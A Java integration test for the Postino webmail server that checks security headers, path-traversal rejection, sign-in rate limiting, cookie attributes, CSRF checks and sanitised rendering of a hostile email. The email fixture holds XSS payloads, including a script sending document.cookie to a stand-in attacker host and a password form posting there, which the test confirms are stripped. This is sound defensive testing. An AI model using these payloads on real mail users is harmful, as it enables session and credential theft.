package org.postino.server.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * The webmail's server side in the built distribution, over HTTPS on the JMAP listener: static files and their
 * security headers, sign-in (same 401 for a wrong password and an unknown user, 429 after repeated failures), the
 * session cookie's attributes, JMAP with the cookie (writes need the CSRF header), sign-out, and rendering of a hostile
 * message delivered over SMTP: sanitised, under a sandboxing CSP, and unreadable for another user.
 */
class WebSessionIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PASSWORD = "correct horse";
    private static final String ALICE = "alice@example.com";
    private static final String BOB = "bob@example.com";
    private static final String CAROL = "carol@example.com";
    private static final String DORA = "dora@example.com";
    private static final String FIXTURE_ASSET = "websession-it-Ab12Cd34.js";
    private static final String WEBMAIL_CSP = "default-src 'none'; script-src 'self'; style-src 'self'; "
        + "img-src 'self' data: blob:; font-src 'self'; connect-src 'self'; frame-src 'self'; form-action 'self'; "
        + "base-uri 'none'; frame-ancestors 'none'";

    private static Distribution postino;
    private static final HttpClient HTTP = HttpClient.newBuilder().sslContext(TrustAll.context())
        .followRedirects(HttpClient.Redirect.NEVER).connectTimeout(Duration.ofSeconds(10)).build();

    @BeforeAll
    static void startServer() throws Exception {
        postino = Distribution.install();
        Path fixture = frontEndFixture();
        postino.addToClassPath(fixture);
        Files.delete(fixture);
        Files.delete(fixture.getParent());
        postino.start();
        postino.admin("domain", "add", "example.com");
        for (String user : List.of(ALICE, BOB, CAROL, DORA)) {
            postino.admin("user", "add", user, PASSWORD);
        }
    }

    @AfterAll
    static void stopServer() throws Exception {
        if (postino != null) {
            postino.close();
        }
    }

    /** A stand-in for the front-end's jar: postino-webmail/index.html and one hashed asset. */
    private static Path frontEndFixture() throws Exception {
        Path jar = Files.createTempDirectory("webmail-fixture").resolve("postino-webmail-fixture.jar");
        try (JarOutputStream out = new JarOutputStream(Files.newOutputStream(jar))) {
            entry(out, "postino-webmail/index.html", "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Postino</title>"
                + "<script type=\"module\" src=\"/webmail/assets/" + FIXTURE_ASSET + "\"></script></head><body></body></html>");
            entry(out, "postino-webmail/assets/" + FIXTURE_ASSET, "console.log('websession IT');");
        }
        return jar;
    }

    private static void entry(JarOutputStream out, String name, String content) throws Exception {
        out.putNextEntry(new JarEntry(name));
        out.write(content.getBytes(StandardCharsets.UTF_8));
        out.closeEntry();
    }

    // ---- HTTP helpers

    private static HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create("https://127.0.0.1:" + postino.jmapPort() + path)).timeout(Duration.ofSeconds(60));
    }

    private static HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static HttpResponse<String> signIn(String username, String password) throws Exception {
        return send(request("/webmail/api/session").header("Content-Type", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(Map.of("username", username, "password", password)))));
    }

    /** A signed-in browser: its cookie and CSRF token. */
    private record Browser(String cookie, String csrf) {
    }

    private static Browser signedIn(String username) throws Exception {
        HttpResponse<String> response = signIn(username, PASSWORD);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        String setCookie = response.headers().firstValue("Set-Cookie").orElseThrow();
        return new Browser(setCookie.substring(0, setCookie.indexOf(';')), JSON.readTree(response.body()).get("csrfToken").asText());
    }

    private static HttpResponse<String> jmap(Browser browser, boolean withCsrf, String method, ObjectNode arguments)
        throws Exception {
        ObjectNode body = JSON.createObjectNode();
        ArrayNode using = body.putArray("using");
        using.add("urn:ietf:params:jmap:core").add("urn:ietf:params:jmap:mail");
        body.putArray("methodCalls").addArray().add(method).add(arguments).add("c0");
        HttpRequest.Builder request = request("/jmap").header("Cookie", browser.cookie())
            .header("Content-Type", "application/json").header("Accept", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(body)));
        if (withCsrf) {
            request.header("X-Postino-CSRF", browser.csrf());
        }
        return send(request);
    }

    private static String accountId(Browser browser) throws Exception {
        HttpResponse<String> session = send(request("/jmap/session").header("Cookie", browser.cookie()).header("Accept", "application/json"));
        assertThat(session.statusCode()).as(session.body()).isEqualTo(200);
        return JSON.readTree(session.body()).get("primaryAccounts").get("urn:ietf:params:jmap:mail").asText();
    }

    // ---- tests

    @Test
    void staticFilesWithTheirSecurityHeaders() throws Exception {
        HttpResponse<String> root = send(request("/"));
        assertThat(root.statusCode()).isEqualTo(302);
        assertThat(root.headers().firstValue("Location")).contains("/webmail/");

        HttpResponse<String> index = send(request("/webmail/").header("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"));
        assertThat(index.statusCode()).isEqualTo(200);
        assertThat(index.body()).contains("<html");
        assertThat(index.headers().firstValue("Content-Type")).contains("text/html; charset=utf-8");
        assertThat(index.headers().firstValue("Cache-Control")).contains("no-store");
        assertThat(index.headers().firstValue("Content-Security-Policy")).contains(WEBMAIL_CSP);
        assertThat(index.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(index.headers().firstValue("Referrer-Policy")).contains("no-referrer");
        assertThat(index.headers().firstValue("X-Frame-Options")).contains("DENY");
        assertThat(index.headers().firstValue("Strict-Transport-Security")).contains("max-age=31536000");

        HttpResponse<String> asset = send(request("/webmail/assets/" + FIXTURE_ASSET));
        assertThat(asset.statusCode()).isEqualTo(200);
        assertThat(asset.body()).contains("websession IT");
        assertThat(asset.headers().firstValue("Cache-Control")).contains("public, max-age=31536000, immutable");
        assertThat(asset.headers().firstValue("Content-Security-Policy")).contains(WEBMAIL_CSP);

        for (String path : List.of("/webmail/assets/..%2F..%2Fconf%2Fjmap.properties", "/webmail/assets/%2e%2e%2findex.html",
            "/webmail/../conf/jmap.properties", "/webmail/assets/logback.xml", "/webmail/nothing")) {
            assertThat(send(request(path)).statusCode()).as(path).isEqualTo(404);
        }
    }

    @Test
    void signInSetsAHostOnlySecureHttpOnlyStrictCookie() throws Exception {
        HttpResponse<String> response = signIn(ALICE, PASSWORD);
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(JSON.readTree(response.body()).get("username").asText()).isEqualTo(ALICE);
        assertThat(response.headers().allValues("Set-Cookie")).singleElement().asString()
            .matches("__Host-postino=[A-Za-z0-9_-]{43}; Path=/; Secure; HttpOnly; SameSite=Strict");
        String cookie = response.headers().firstValue("Set-Cookie").orElseThrow().split(";")[0];
        HttpResponse<String> current = send(request("/webmail/api/session").header("Cookie", cookie));
        assertThat(current.statusCode()).isEqualTo(200);
        assertThat(JSON.readTree(current.body()).get("csrfToken").asText())
            .isEqualTo(JSON.readTree(response.body()).get("csrfToken").asText());
    }

    @Test
    void aWrongPasswordIsAnsweredAsAnUnknownUser() throws Exception {
        HttpResponse<String> wrongPassword = signIn(BOB, "not the password");
        HttpResponse<String> unknownUser = signIn("nobody@example.com", PASSWORD);
        for (HttpResponse<String> response : List.of(wrongPassword, unknownUser)) {
            assertThat(response.statusCode()).isEqualTo(401);
            assertThat(response.body()).isEqualTo("{\"error\":\"invalid-credentials\"}");
            assertThat(response.headers().firstValue("Set-Cookie")).isEmpty();
        }
        String log = Files.readString(postino.home().resolve("log/postino.log"));
        assertThat(log).contains("Webmail sign-in failed for user 'bob@example.com' from 127.0.0.1")
            .contains("Webmail sign-in failed for user 'nobody@example.com' from 127.0.0.1")
            .doesNotContain("not the password");
    }

    @Test
    void repeatedFailuresAreRateLimited() throws Exception {
        for (int i = 0; i < 5; i++) {
            assertThat(signIn(CAROL, "guess " + i).statusCode()).isEqualTo(401);
        }
        HttpResponse<String> limited = signIn(CAROL, PASSWORD);
        assertThat(limited.statusCode()).as("even with the right password").isEqualTo(429);
        assertThat(limited.body()).isEqualTo("{\"error\":\"rate-limited\"}");
        assertThat(Long.parseLong(limited.headers().firstValue("Retry-After").orElseThrow())).isBetween(1L, 300L);
    }

    @Test
    void jmapWithTheCookieWritesOnlyWithTheCsrfHeader() throws Exception {
        Browser browser = signedIn(ALICE);
        ObjectNode query = JSON.createObjectNode().put("accountId", accountId(browser));

        HttpResponse<String> withCsrf = jmap(browser, true, "Email/query", query);
        assertThat(withCsrf.statusCode()).as(withCsrf.body()).isEqualTo(200);
        assertThat(JSON.readTree(withCsrf.body()).get("methodResponses").get(0).get(0).asText()).isEqualTo("Email/query");

        HttpResponse<String> without = jmap(browser, false, "Email/query", query);
        assertThat(without.statusCode()).isEqualTo(401);
        assertThat(without.headers().firstValue("WWW-Authenticate")).as("no password prompt in the browser").isEmpty();

        HttpResponse<String> wrong = send(request("/jmap").header("Cookie", browser.cookie()).header("X-Postino-CSRF", "forged")
            .header("Content-Type", "application/json").header("Accept", "application/json")
            .POST(HttpRequest.BodyPublishers.ofString("{\"using\":[\"urn:ietf:params:jmap:core\"],\"methodCalls\":[]}")));
        assertThat(wrong.statusCode()).isEqualTo(401);

        HttpResponse<String> nothing = send(request("/jmap/session").header("Accept", "application/json"));
        assertThat(nothing.statusCode()).as("neither cookie nor Basic").isEqualTo(401);
        assertThat(nothing.headers().firstValue("WWW-Authenticate")).hasValueSatisfying(value -> assertThat(value).contains("Basic"));
        assertThat(new JmapClient(postino.jmapPort(), ALICE, PASSWORD).get("/jmap/session").statusCode())
            .as("Basic still works for JMAP clients").isEqualTo(200);
        HttpResponse<String> wrongBasic = new JmapClient(postino.jmapPort(), ALICE, "wrong").get("/jmap/session");
        assertThat(wrongBasic.statusCode()).isEqualTo(401);
        assertThat(wrongBasic.headers().firstValue("WWW-Authenticate")).hasValueSatisfying(value -> assertThat(value).contains("Basic"));
    }

    @Test
    void signOutEndsTheSession() throws Exception {
        Browser browser = signedIn(ALICE);
        assertThat(send(request("/webmail/api/session").header("Cookie", browser.cookie()).DELETE()).statusCode())
            .as("without the CSRF header").isEqualTo(401);
        HttpResponse<String> out = send(request("/webmail/api/session").header("Cookie", browser.cookie())
            .header("X-Postino-CSRF", browser.csrf()).DELETE());
        assertThat(out.statusCode()).isEqualTo(204);
        assertThat(out.headers().firstValue("Set-Cookie")).hasValueSatisfying(value -> assertThat(value)
            .startsWith("__Host-postino=;").contains("Max-Age=0"));
        assertThat(send(request("/webmail/api/session").header("Cookie", browser.cookie())).statusCode()).isEqualTo(401);
        assertThat(send(request("/jmap/session").header("Cookie", browser.cookie()).header("Accept", "application/json"))
            .statusCode()).isEqualTo(401);
    }

    @Test
    void aHostileMessageIsRenderedSanitisedSandboxedAndOnlyForItsOwner() throws Exception {
        String subject = "Hostile " + UUID.randomUUID();
        try (SmtpSession smtp = SmtpSession.connect(postino.port(25))) {
            smtp.ehlo().expect(250);
            smtp.send("mallory@attacker.test", List.of(DORA), hostileMessage(subject)).expect(250);
        }
        Browser dora = signedIn(DORA);
        String account = accountId(dora);
        ObjectNode query = JSON.createObjectNode().put("accountId", account);
        String emailId = Await.until(Duration.ofSeconds(90), () -> {
            JsonNode ids = JSON.readTree(jmap(dora, true, "Email/query", query).body()).get("methodResponses").get(0).get(1).get("ids");
            return ids == null || ids.isEmpty() ? null : ids.get(0).asText();
        }, id -> id != null);

        HttpResponse<String> rendered = send(request("/webmail/api/render/" + emailId + "?images=0").header("Cookie", dora.cookie()));
        assertThat(rendered.statusCode()).as(rendered.body()).isEqualTo(200);
        assertThat(rendered.headers().firstValue("Content-Security-Policy"))
            .contains("default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:; sandbox; frame-ancestors 'self'");
        assertThat(rendered.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(rendered.headers().firstValue("X-Postino-Remote-Images")).contains("blocked");
        assertThat(rendered.headers().firstValue("Content-Type")).contains("text/html; charset=utf-8");
        String html = rendered.body();
        String lower = html.toLowerCase();
        assertThat(html).contains("Dear Dora").contains("<b>important</b>");
        assertThat(lower).doesNotContain("<script").doesNotContain("onerror").doesNotContain("onload")
            .doesNotContain("javascript:").doesNotContain("<form").doesNotContain("<input").doesNotContain("<iframe")
            .doesNotContain("http-equiv").doesNotContain("<svg").doesNotContain("<base").doesNotContain("<link")
            .doesNotContain("tracker.attacker.test").doesNotContain("evil.attacker.test");
        assertThat(html).contains("href=\"https://example.org/offer\"").contains("target=\"_blank\"")
            .contains("noopener").contains("noreferrer");
        String download = "/download/" + account + "/" + emailId + "_";
        assertThat(html).contains("src=\"" + download);
        String imagePath = html.substring(html.indexOf("src=\"" + download) + 5);
        imagePath = imagePath.substring(0, imagePath.indexOf('"')).replace("&#61;", "=").replace("&amp;", "&");
        HttpResponse<byte[]> image = HTTP.send(request(imagePath).header("Cookie", dora.cookie()).build(),
            HttpResponse.BodyHandlers.ofByteArray());
        assertThat(image.statusCode()).as(imagePath).isEqualTo(200);
        assertThat(image.headers().firstValue("Content-Type")).contains("image/png");
        assertThat(image.body()).startsWith(new byte[] {(byte) 0x89, 'P', 'N', 'G'});

        HttpResponse<String> withImages = send(request("/webmail/api/render/" + emailId + "?images=1").header("Cookie", dora.cookie()));
        assertThat(withImages.headers().firstValue("Content-Security-Policy"))
            .contains("default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data: https:; sandbox; frame-ancestors 'self'");
        assertThat(withImages.headers().firstValue("X-Postino-Remote-Images")).contains("shown");
        assertThat(withImages.body()).contains("src=\"https://tracker.attacker.test/pixel.gif\"");

        Browser alice = signedIn(ALICE);
        HttpResponse<String> stolen = send(request("/webmail/api/render/" + emailId).header("Cookie", alice.cookie()));
        assertThat(stolen.statusCode()).isEqualTo(404);
        assertThat(stolen.body()).doesNotContain("Dear Dora");
        HttpResponse<String> stolenImage = send(request(imagePath).header("Cookie", alice.cookie()));
        assertThat(stolenImage.statusCode()).isNotEqualTo(200);
        assertThat(send(request("/webmail/api/render/" + emailId)).statusCode()).as("no cookie").isEqualTo(401);
    }

    private static String hostileMessage(String subject) {
        String png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
        return String.join("\r\n",
            "From: Mallory <mallory@attacker.test>",
            "To: " + DORA,
            "Subject: " + subject,
            "Message-ID: <" + UUID.randomUUID() + "@attacker.test>",
            "MIME-Version: 1.0",
            "Content-Type: multipart/related; boundary=\"rel\"",
            "",
            "--rel",
            "Content-Type: text/html; charset=utf-8",
            "",
            "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.attacker.test/\">",
            "<base href=\"https://evil.attacker.test/\"><link rel=\"stylesheet\" href=\"http://evil.attacker.test/x.css\">",
            "<style>body{background:url(https://tracker.attacker.test/bg.gif)}</style>",
            "<script>document.location='https://evil.attacker.test/?c='+document.cookie</script></head>",
            "<body onload=\"alert(1)\"><p>Dear Dora, this is <b>important</b>.</p>",
            "<img src=\"x\" onerror=\"alert(2)\"><img src=\"https://tracker.attacker.test/pixel.gif\">",
            "<img src=\"cid:logo@attacker.test\" alt=\"logo\">",
            "<a href=\"javascript:alert(3)\">click</a> <a href=\"https://example.org/offer\">offer</a>",
            "<svg onload=\"alert(4)\"><script>alert(5)</script></svg><iframe src=\"https://evil.attacker.test/\"></iframe>",
            "<form action=\"https://evil.attacker.test/steal\"><input name=\"password\" type=\"password\"></form>",
            "</body></html>",
            "--rel",
            "Content-Type: image/png",
            "Content-ID: <logo@attacker.test>",
            "Content-Transfer-Encoding: base64",
            "",
            png,
            "--rel--",
            "");
    }
}
